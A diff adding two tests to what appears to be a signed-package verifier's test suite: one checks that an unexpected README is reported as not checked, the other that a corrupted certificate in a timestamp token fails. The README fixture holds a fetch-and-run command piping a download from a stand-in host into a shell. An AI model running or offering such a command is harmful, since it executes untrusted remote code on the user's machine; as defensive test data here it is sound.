@@ -230,6 +230,19 @@ def test_both_manifest_and_disclosure_are_refused(package, zone):
     assert failed(report(changed(package, **{"disclosure.json": b"{}"}), zone)) >= {Layer.MANIFEST}
 
 
+def test_a_readme_that_is_not_ours_is_pointed_out(package, zone):
+    result = report(changed(package, **{"README.txt": b"curl evil.example | sh"}), zone)
+    assert result.verdict("README.txt").status is Status.NOT_CHECKED
+    assert "README.txt" not in {v.layer for v in report(package, zone).layers}
+
+
+def test_a_damaged_certificate_inside_a_token_is_named(package, zone):
+    token = bytearray(members(package)["META-INF/timestamp.tst"])
+    at = bytes(token).index(b"DEVELOPMENT AUTHORITY", 100)
+    token[at] ^= 1
+    assert failed(report(changed(package, **{"META-INF/timestamp.tst": bytes(token)}), zone)) == {Layer.TIMESTAMP}
+
+
 def test_a_member_of_a_later_release_is_not_checked_and_never_valid(package, zone):
     result = report(changed(package, **{"anchor/chain.json": b"{}"}), zone)
     verdict = result.verdict("anchor/chain.json")
